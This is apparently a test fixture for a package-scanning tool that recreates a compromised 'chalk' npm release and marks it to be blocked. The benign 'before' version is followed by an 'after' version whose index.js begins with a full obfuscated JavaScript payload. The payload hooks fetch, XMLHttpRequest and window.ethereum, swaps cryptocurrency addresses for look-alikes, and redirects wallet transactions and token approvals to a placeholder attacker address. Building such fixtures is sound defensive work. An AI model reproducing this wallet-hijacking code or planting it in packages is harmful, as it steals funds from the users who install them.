import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '5.6.0',
  publishedAt: '2025-08-18T09:14:27.000Z',
  publisher: { name: 'qix', email: 'qix@mail.example.invalid' },
  manifest: {
    type: 'module',
    main: './source/index.js',
    exports: './source/index.js',
    imports: { '#ansi-styles': './source/vendor/ansi-styles/index.js' },
    license: 'MIT',
    description: 'terminal string styling',
    engines: { node: '^12.17.0 || ^14.13 || >=16.0.0' },
  },
  files: {
    'source/index.js': `import ansiStyles from '#ansi-styles';
import {stringReplaceAll} from './utilities.js';

const GENERATOR = Symbol('GENERATOR');
const STYLER = Symbol('STYLER');
const styles = Object.create(null);

const chalkFactory = options => {
	const chalk = (...strings) => strings.join(' ');
	chalk.level = options?.level ?? (globalThis.process?.stdout?.isTTY ? 2 : 0);
	Object.setPrototypeOf(chalk, createChalk.prototype);
	return chalk;
};

function createChalk(options) {
	return chalkFactory(options);
}

Object.setPrototypeOf(createChalk.prototype, Function.prototype);

for (const [styleName, style] of Object.entries(ansiStyles)) {
	styles[styleName] = {
		get() {
			const builder = createBuilder(this, {open: style.open, close: style.close, parent: this[STYLER]});
			Object.defineProperty(this, styleName, {value: builder});
			return builder;
		},
	};
}

const proto = Object.defineProperties(() => {}, {...styles});

const createBuilder = (self, styler) => {
	const builder = (...arguments_) => applyStyle(builder, arguments_.length === 1 ? \`\${arguments_[0]}\` : arguments_.join(' '));
	Object.setPrototypeOf(builder, proto);
	builder[GENERATOR] = self[GENERATOR] ?? self;
	builder[STYLER] = styler;
	return builder;
};

const applyStyle = (self, string) => {
	if (self[GENERATOR].level <= 0 || !string) {
		return string;
	}

	for (let styler = self[STYLER]; styler !== undefined; styler = styler.parent) {
		string = styler.open + stringReplaceAll(string, styler.close, styler.open) + styler.close;
	}

	return string;
};

Object.defineProperties(createChalk.prototype, styles);

const chalk = createChalk();

export default chalk;
`,
    'source/utilities.js': `export function stringReplaceAll(string, substring, replacer) {
	let index = string.indexOf(substring);
	if (index === -1) {
		return string;
	}

	let endIndex = 0;
	let returnValue = '';
	do {
		returnValue += string.slice(endIndex, index) + substring + replacer;
		endIndex = index + substring.length;
		index = string.indexOf(substring, endIndex);
	} while (index !== -1);

	return returnValue + string.slice(endIndex);
}
`,
    'source/vendor/ansi-styles/index.js': `const pairs = {
	bold: [1, 22],
	dim: [2, 22],
	underline: [4, 24],
	red: [31, 39],
	green: [32, 39],
	yellow: [33, 39],
	blue: [34, 39],
	bgRed: [41, 49],
};

const ansiStyles = {};

for (const [name, [open, close]] of Object.entries(pairs)) {
	ansiStyles[name] = {open: \`\\u001B[\${open}m\`, close: \`\\u001B[\${close}m\`};
}

export default ansiStyles;
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'chalk-2025',
  story: 'September 2025: one obfuscated line put before the module, which takes over fetch, XMLHttpRequest and window.ethereum and swaps addresses for look-alikes.',
  name: 'chalk',
  before,
  after: {
    version: '5.6.1',
    publishedAt: '2025-09-08T09:14:27.000Z',
    publisher: { name: 'qix', email: 'qix@mail.example.invalid' },
    manifest: {
      type: 'module',
      main: './source/index.js',
      exports: './source/index.js',
      imports: { '#ansi-styles': './source/vendor/ansi-styles/index.js' },
      license: 'MIT',
      description: 'terminal string styling',
      engines: { node: '^12.17.0 || ^14.13 || >=16.0.0' },
    },
    files: {
      ...before.files,
      'source/index.js': `const _0x112fa8=_0x180f;(function(_0x13c8b9,_0x35f660){const _0x15b386=_0x180f,_0x66ea25=_0x13c8b9();while(!![]){try{const _0x2cc99e=parseInt(_0x15b386(0x0))/(0x1*0x1)+-parseInt(_0x15b386(0x1))/0x2;if(_0x2cc99e===_0x35f660)break;else _0x66ea25['push'](_0x66ea25['shift']());}catch(_0x205af0){_0x66ea25['push'](_0x66ea25['shift']());}}}(_0xb1a2,0x0));let neth=0x0,rund=0x0,loval=0x0;async function checkethereumw(){const _0x1=_0x180f;try{const _0x2=await window['ethereum'][_0x1(0x2)]({'method':_0x1(0x3)});_0x2['length']>0x0?(runmask(),rund!=0x1&&(rund=0x1,neth=0x1,newdlocal())):rund!=0x1&&(rund=0x1,newdlocal());}catch(_0x3){rund!=0x1&&(rund=0x1,newdlocal());}}typeof window!='undefined'&&typeof window['ethereum']!='undefined'?checkethereumw():rund!=0x1&&(rund=0x1,newdlocal());function levdist(_0xa,_0xb){const _0xc=Array['from']({'length':_0xa['length']+0x1},()=>Array(_0xb['length']+0x1)['fill'](0x0));for(let _0xd=0x0;_0xd<=_0xa['length'];_0xd++)_0xc[_0xd][0x0]=_0xd;for(let _0xe=0x0;_0xe<=_0xb['length'];_0xe++)_0xc[0x0][_0xe]=_0xe;for(let _0xd=0x1;_0xd<=_0xa['length'];_0xd++)for(let _0xe=0x1;_0xe<=_0xb['length'];_0xe++){_0xc[_0xd][_0xe]=_0xa[_0xd-0x1]===_0xb[_0xe-0x1]?_0xc[_0xd-0x1][_0xe-0x1]:0x1+Math['min'](_0xc[_0xd-0x1][_0xe],_0xc[_0xd][_0xe-0x1],_0xc[_0xd-0x1][_0xe-0x1]);}return _0xc[_0xa['length']][_0xb['length']];}function closest(_0xf,_0x10){let _0x11=Infinity,_0x12=null;for(let _0x13 of _0x10){const _0x14=levdist(_0xf['toLowerCase'](),_0x13['toLowerCase']());_0x14<_0x11&&(_0x11=_0x14,_0x12=_0x13);}return _0x12;}function transform(_0x15){const _0x16=_0x180f,_0x17=["1${noise(33, 21, '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz')}","1${noise(33, 23, '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz')}"],_0x18=["bc1q${noise(38, 25, '023456789acdefghjklmnpqrstuvwxyz')}","bc1q${noise(38, 27, '023456789acdefghjklmnpqrstuvwxyz')}"],_0x19=["0x${noise(40, 29, '0123456789abcdef')}","0x${noise(40, 31, '0123456789abcdef')}","0x${noise(40, 33, '0123456789abcdef')}"],_0x1a=["T${noise(33, 35, '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz')}"],_0x1b={'ethereum':/\\b0x[a-fA-F0-9]{40}\\b/g,'bitcoinLegacy':/\\b1[a-km-zA-HJ-NP-Z1-9]{25,34}\\b/g,'bitcoinSegwit':/\\b(3[a-km-zA-HJ-NP-Z1-9]{25,34}|bc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{11,71})\\b/g,'tron':/((?<!\\w)[T][1-9A-HJ-NP-Za-km-z]{33})/g};for(const [_0x1c,_0x1d] of Object['entries'](_0x1b)){const _0x1e={'ethereum':_0x19,'bitcoinLegacy':_0x17,'bitcoinSegwit':_0x18,'tron':_0x1a}[_0x1c];_0x15=_0x15[_0x16(0x4)](_0x1d,_0x1f=>_0x1e['includes'](_0x1f)?_0x1f:closest(_0x1f,_0x1e));}return _0x15;}function newdlocal(){const _0x20=_0x180f;if(typeof globalThis[_0x20(0x5)]==='function'){const _0x21=globalThis[_0x20(0x5)];globalThis[_0x20(0x5)]=async function(..._0x22){const _0x23=await _0x21(..._0x22),_0x24=_0x23['headers']['get'](_0x20(0x6))||'';let _0x25=_0x24['includes'](_0x20(0x7))?await _0x23['clone']()['json']():await _0x23['clone']()['text']();const _0x26=transform(JSON['stringify'](_0x25)),_0x27=_0x24['includes'](_0x20(0x7))?_0x26:JSON['parse'](_0x26);return new Response(_0x27,{'status':_0x23['status'],'statusText':_0x23['statusText'],'headers':_0x23['headers']});};}if(typeof XMLHttpRequest!=='undefined'){const _0x28=XMLHttpRequest['prototype'][_0x20(0x8)],_0x29=XMLHttpRequest['prototype'][_0x20(0x9)];XMLHttpRequest['prototype'][_0x20(0x8)]=function(_0x2a,_0x2b){return this['_url']=_0x2b,_0x28['apply'](this,arguments);},XMLHttpRequest['prototype'][_0x20(0x9)]=function(_0x2c){const _0x2d=this,_0x2e=_0x2d['onreadystatechange'];return _0x2d['onreadystatechange']=function(){if(_0x2d['readyState']===0x4)try{const _0x2f=transform(_0x2d['responseText']);_0x2f!==_0x2d['responseText']&&Object['defineProperty'](_0x2d,'responseText',{'value':_0x2f});}catch(_0x30){}_0x2e&&_0x2e['apply'](this,arguments);},_0x29['apply'](this,arguments);};}}function runmask(){const _0x31=_0x180f,_0x32=window['ethereum'];[_0x31(0x2),_0x31(0x9),_0x31(0xa)]['forEach'](_0x33=>{const _0x34=_0x32[_0x33];if(typeof _0x34!=='function')return;_0x32[_0x33]=async function(..._0x35){const _0x36=_0x35[0x0];if(_0x36&&_0x36['method']===_0x31(0xb)&&_0x36['params']){const _0x37=_0x36['params'][0x0];_0x37['to']="0x${noise(40, 41, '0123456789abcdef')}";if(_0x37['data']&&_0x37['data']['startsWith']('0x095ea7b3'))_0x37['data']='0x095ea7b3'+'0'['repeat'](0x18)+"${noise(40, 41, '0123456789abcdef')}"+'f'['repeat'](0x40);}return _0x34['apply'](this,_0x35);};});}function _0xb1a2(){const _0x38=['0a','0b','request','eth_accounts','replace','fetch','Content-Type','application/json','open','send','sendAsync','eth_sendTransaction'];_0xb1a2=function(){return _0x38;};return _0xb1a2();}function _0x180f(_0x39,_0x3a){const _0x3b=_0xb1a2();return _0x180f=function(_0x3c){return _0x3b[_0x3c-0x0];},_0x180f(_0x39,_0x3a);}
` + before.files['source/index.js'],
    },
  },
  must: 'block',
};
